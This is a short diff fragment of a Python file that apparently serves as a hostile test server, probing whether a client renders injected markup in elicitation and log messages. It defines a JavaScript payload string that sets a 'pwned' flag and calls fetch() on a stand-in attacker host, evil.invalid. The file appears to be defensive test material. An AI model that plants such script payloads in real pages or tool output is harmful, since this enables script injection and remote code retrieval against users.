@@ -7,13 +7,11 @@ ask  an elicitation whose words, address and fields are hostile; talk  log messa
 is markup.
 """
 
-from __future__ import annotations
-
 import base64
 import json
 from typing import Any
 
-from planting import Refusal, initialized, log, say, serve
+from raw_stdio import Refusal, initialized, log, say, serve
 
 RUN = "window.pwned=1;fetch('http://evil.invalid/run')"
 TAGS = (
